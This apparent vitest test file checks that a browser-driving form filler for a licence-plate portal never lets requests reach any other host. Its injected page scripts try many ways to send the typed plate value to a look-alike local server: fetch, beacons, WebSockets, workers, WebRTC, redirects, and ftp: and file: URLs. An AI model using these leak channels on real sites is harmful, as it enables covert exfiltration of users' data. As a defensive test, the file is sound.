import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  createFixtureDriver,
  FixturePortal,
  fillScreen,
  fixturePortalVocabulary,
  plateFormHtml,
  sendScreen,
  thankYouHtml,
} from '../../test/portals/fixture-portal.ts';
import { startLocalSite } from '../../test/portals/local-site.ts';
import { isDeepRun } from '../../test/test-depth.ts';
import { waitUntil } from '../../test/wait-until.ts';

/** A site that looks like the portal's: it accepts every request and records what it receives. */
class LookAlike implements AsyncDisposable {
  readonly got: string[] = [];
  readonly #udp = createSocket('udp4', (packet) => this.got.push(`udp ${packet.length}`));
  readonly #http = createServer(async (request, response) => {
    const body = (await buffer(request)).toString();
    this.got.push(`${request.method} ${request.url} ${body}`);
    const origin = request.headers.origin ?? '*';
    response.setHeader('access-control-allow-origin', origin);
    response.setHeader('access-control-allow-credentials', 'true');
    response.setHeader('access-control-allow-headers', 'content-type');
    response.end(thankYouHtml);
  });
  url = '';
  stun = '';

  static async open(): Promise<LookAlike> {
    const site = new LookAlike();
    site.#http.on('connection', () => site.got.push('connection'));
    site.#http.on('upgrade', (_request, socket) => socket.destroy());
    await once(site.#http.listen(0, '127.0.0.1'), 'listening');
    site.#udp.bind(0, '127.0.0.1');
    await once(site.#udp, 'listening');
    site.url = `http://localhost:${(site.#http.address() as AddressInfo).port}`;
    site.stun = `stun:127.0.0.1:${site.#udp.address().port}`;
    return site;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#udp.close();
    this.#http.closeAllConnections();
    await new Promise((resolve) => this.#http.close(resolve));
  }
}

let fixture: FixturePortal;
let lookAlike: LookAlike;
let logged: { event: string; facts: Record<string, string> }[];

beforeAll(async () => {
  [fixture, lookAlike] = await Promise.all([FixturePortal.start(), LookAlike.open()]);
});
afterAll(async () => {
  await fixture[Symbol.asyncDispose]();
  await lookAlike[Symbol.asyncDispose]();
});
beforeEach(() => {
  fixture.reset();
  lookAlike.got.length = 0;
  logged = [];
  for (const status of redirects) {
    const leave: (typeof fixture.site.pages)[string] = (_, response) =>
      response.writeHead(status, { location: `${lookAlike.url}/leave/${status}` }).end();
    // The guard blocks a script that posts to the target of a form on its page, for that reason alone
    // (sent-requests.ts).
    Object.assign(fixture.site.pages, { [`/leave/${status}`]: leave, [`/leave-by-form/${status}`]: leave });
  }
});

const redirects = [301, 302, 303, 307, 308];
/** One status that fetches the other page and one that posts again; all of them in a deep run. */
const some = (...statuses: number[]) => (isDeepRun ? redirects : statuses);
const log = (event: string, facts: Record<string, string>) => void logged.push({ event, facts });
const refusedHosts = () => logged.filter(({ event }) => event === 'host_refused').map(({ facts }) => facts.host);

/** Everything a page can do by itself to reach another host, without leaving. Requests /done when it has tried all. */
const noise = (elsewhere: string, stun: string) => `<script type="module">
  const elsewhere = '${elsewhere}';
  const body = 'plate=AB12CDE';
  const add = (name, facts) => document.head.append(Object.assign(document.createElement(name), facts));
  const frame = (src) => document.body.append(Object.assign(document.createElement('iframe'), { src }));
  const patient = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 1500))]).catch(() => undefined);
  const asked = [];
  for (const status of [301, 302, 303, 307, 308]) {
    const path = '/leave/' + status;
    asked.push(fetch(path), fetch(path, { method: 'POST', body, mode: 'no-cors' }));
    asked.push(fetch(path, { method: 'POST', body: new Blob([body], { type: 'text/plain' }), credentials: 'include' }));
    navigator.sendBeacon(path, body);
    add('img', { src: path });
    frame(path);
    const form = Object.assign(document.createElement('form'), { method: 'post', action: '/leave-by-form/' + status, target: 'f' + status });
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'f' + status }), form);
    form.submit();
  }
  add('img', { src: elsewhere + '/img' });
  add('script', { src: elsewhere + '/script' });
  add('link', { rel: 'stylesheet', href: elsewhere + '/css' });
  add('link', { rel: 'prefetch', href: elsewhere + '/prefetch' });
  add('link', { rel: 'preconnect', href: elsewhere });
  add('link', { rel: 'dns-prefetch', href: elsewhere });
  add('link', { rel: 'preload', as: 'fetch', href: elsewhere + '/preload' });
  add('link', { rel: 'icon', href: elsewhere + '/icon' });
  add('style', { textContent: '@font-face { font-family: x; src: url(' + elsewhere + '/font) } p { font-family: x; background: url(' + elsewhere + '/bg) }' });
  document.body.append(Object.assign(document.createElement('p'), { textContent: 'text' }));
  frame(elsewhere + '/frame');
  frame('data:text/html,<img src="' + elsewhere + '/nested">');
  asked.push(fetch(elsewhere + '/fetch', { method: 'POST', body, mode: 'no-cors' }));
  asked.push(new Promise((resolve) => {
    const xhr = new XMLHttpRequest();
    xhr.onloadend = resolve;
    xhr.open('POST', elsewhere + '/xhr');
    xhr.send(body);
  }));
  navigator.sendBeacon(elsewhere + '/beacon', body);
  asked.push(new Promise((resolve) => { new WebSocket(elsewhere.replace('http', 'ws') + '/socket').onclose = resolve; }));
  asked.push(new Promise((resolve) => { new EventSource(elsewhere + '/events').onerror = resolve; }));
  asked.push((async () => (await navigator.serviceWorker.register('/worker.js')).update())());
  new Worker(URL.createObjectURL(new Blob(['fetch("' + elsewhere + '/from-worker", { method: "POST", body: "x", mode: "no-cors" })'])));
  try { asked.push(new WebTransport(elsewhere.replace('http:', 'https:') + '/transport').closed); } catch {}
  window.open(elsewhere + '/pop-up');
  window.open('/leave/302');
  const link = Object.assign(document.createElement('a'), { href: elsewhere + '/file', download: 'x', target: '_blank', ping: elsewhere + '/ping' });
  document.body.append(link);
  link.click();
  asked.push(new Promise((resolve) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
    peer.createDataChannel('x');
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }));
  await Promise.all(asked.map(patient));
  await fetch('/done');
</script>`;

/** Requests an address in the ways that need no web server there, and reports to the portal what it got. */
const curiosity = (address: string, redirect: string) => `<script type="module">
  // A request to ftp: in a page that is still loading keeps the page loading for ten seconds.
  if (document.readyState !== 'complete') await new Promise((resolve) => addEventListener('load', resolve));
  const told = (text) => fetch('/told', { method: 'POST', body: text });
  const add = (name, facts) => new Promise((resolve) => {
    document.head.append(Object.assign(document.createElement(name), { onload: resolve, onerror: resolve, ...facts }));
  });
  const asked = [];
  for (const at of ['${address}', '${redirect}']) {
    asked.push(fetch(at).then((answer) => answer.text()).then(told));
    asked.push(new Promise((resolve) => {
      const xhr = new XMLHttpRequest();
      xhr.onload = () => told(xhr.responseText).then(resolve);
      xhr.onerror = resolve;
      xhr.open('GET', at);
      xhr.send();
    }));
    asked.push(add('script', { src: at }), add('img', { src: at }), add('link', { rel: 'stylesheet', href: at }));
    window.open(at);
  }
  document.body.append(Object.assign(document.createElement('iframe'), { src: '${redirect}' }));
  await Promise.allSettled(asked);
  location.href = '${address}';
  await fetch('/done');
</script>`;

describe('no request of a run leaves for a host that is not the portal', () => {
  it('whatever the page tries by itself', async () => {
    let done = false;
    fixture.site.pages['/done'] = (_, response) => {
      done = true;
      response.end();
    };
    fixture.site.pages['/worker.js'] = (_, response) => {
      response.setHeader('content-type', 'text/javascript');
      response.end(`fetch('${lookAlike.url}/service-worker')`);
    };
    fixture.site.pages['/'] = plateFormHtml.replace('</form>', `</form>${noise(lookAlike.url, lookAlike.stun)}`);
    const waiting = {
      ...fillScreen,
      async operateWidget() {
        await waitUntil(() => done, 'the page has tried everything');
      },
    };
    const { result } = await fixture.drive({ driver: createFixtureDriver([waiting, sendScreen]), log });
    expect(lookAlike.got).toEqual([]);
    expect(result).toMatchObject({ result: 'submitted' });
    // The log names only the host: the rest of the address may hold typed values.
    expect(new Set(refusedHosts())).toEqual(new Set([new URL(lookAlike.url).host]));
    expect(JSON.stringify(logged)).not.toMatch(/AB12CDE|frame|xhr/);
  });

  it('nor does one by ftp: or file:', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'curiosity-'));
    const path = join(folder, 'ours.js');
    // A page that reads this file as text reports it; a page that runs it as a script makes it report itself.
    writeFileSync(path, "fetch('/told', { method: 'POST', body: 'ours' })");
    const addresses = [lookAlike.url.replace('http:', 'ftp:'), String(pathToFileURL(path))];
    // In parallel, each with its own portal, because a page that waits for ftp: delays its run.
    const driven = addresses.map(async (address) => {
      let done = false;
      await using site = await startLocalSite({
        '/': plateFormHtml.replace('</form>', `</form>${curiosity(address, '/away')}`),
        '/away': (_, response) => response.writeHead(302, { location: address }).end(),
        '/done': (_, response) => {
          done = true;
          response.end();
        },
        '/sent': thankYouHtml,
      });
      const waiting = {
        ...fillScreen,
        async operateWidget() {
          await waitUntil(() => done, 'the page has tried everything');
        },
      };
      const { result } = await fixture.drive({
        driver: createFixtureDriver([waiting, sendScreen]),
        log,
        siteUrl: site.url,
      });
      expect(result, address).toMatchObject({ result: 'submitted' });
      expect(site.posted, address).toEqual(['/sent?plate=AB12CDE']);
    });
    await Promise.all(driven).finally(() => rmSync(folder, { recursive: true }));
    expect(lookAlike.got).toEqual([]);
  });

  it.each(some(302))('when opening the portal is answered with %i', async (status) => {
    fixture.site.pages['/'] = (_, response) => response.writeHead(status, { location: `${lookAlike.url}/` }).end();
    expect((await fixture.drive({ log })).result).toMatchObject({ reason: 'wrong_host', outcomeUnknown: false });
    expect(lookAlike.got).toEqual([]);
  });

  it.each(some(303, 307))('when a form on the way is answered with %i', async (status) => {
    fixture.site.pages['/'] = plateFormHtml.replace('/sent', `/leave/${status}`);
    const { result } = await fixture.drive({
      driver: createFixtureDriver([{ ...fillScreen, exitButton: () => fixturePortalVocabulary.send }, sendScreen]),
      log,
    });
    expect(result).toMatchObject({ reason: 'wrong_host', outcomeUnknown: false });
    expect(lookAlike.got).toEqual([]);
  });

  it.each(some(302, 308))('when the sending form is answered with %i', async (status) => {
    fixture.site.pages['/'] = plateFormHtml.replace('/sent', `/leave/${status}`);
    expect((await fixture.drive({ log })).result).toMatchObject({ reason: 'wrong_host', outcomeUnknown: true });
    expect(fixture.site.posted).toEqual([`/leave/${status}?plate=AB12CDE`]);
    expect(lookAlike.got).toEqual([]);
  });

  it('when the sending form itself leads elsewhere', async () => {
    fixture.site.pages['/'] = plateFormHtml.replace('/sent', `${lookAlike.url}/sent`);
    expect((await fixture.drive({ log })).result).toMatchObject({ reason: 'wrong_host', outcomeUnknown: true });
    expect(lookAlike.got).toEqual([]);
  });

  it.each([
    ['a refresh', (to: string) => `<meta http-equiv="refresh" content="0; url=${to}">`],
    ['a script', (to: string) => `<script>location.href = '${to}'</script>`],
  ])('when %s leads the page away', async (_name, away) => {
    fixture.site.pages['/'] = plateFormHtml.replace('<head>', `<head>${away(`${lookAlike.url}/away`)}`);
    const looking = { ...fillScreen, exitButton: () => fixturePortalVocabulary.send };
    const { result } = await fixture.drive({ driver: createFixtureDriver([looking, sendScreen]), log });
    expect(result).toMatchObject({ reason: 'wrong_host', outcomeUnknown: false });
    expect(lookAlike.got).toEqual([]);
  });

  it.each(isDeepRun ? [307, 308] : [307])('and a %i within the portal does not make it send twice', async (status) => {
    fixture.site.pages['/'] = plateFormHtml.replace('/sent', '/again');
    fixture.site.pages['/again'] = (_, response) => response.writeHead(status, { location: '/sent' }).end();
    expect((await fixture.drive({ log })).result).toMatchObject({ reason: 'unexpected_page', outcomeUnknown: true });
    expect(fixture.site.posted).toEqual(['/again?plate=AB12CDE']);
  });
});
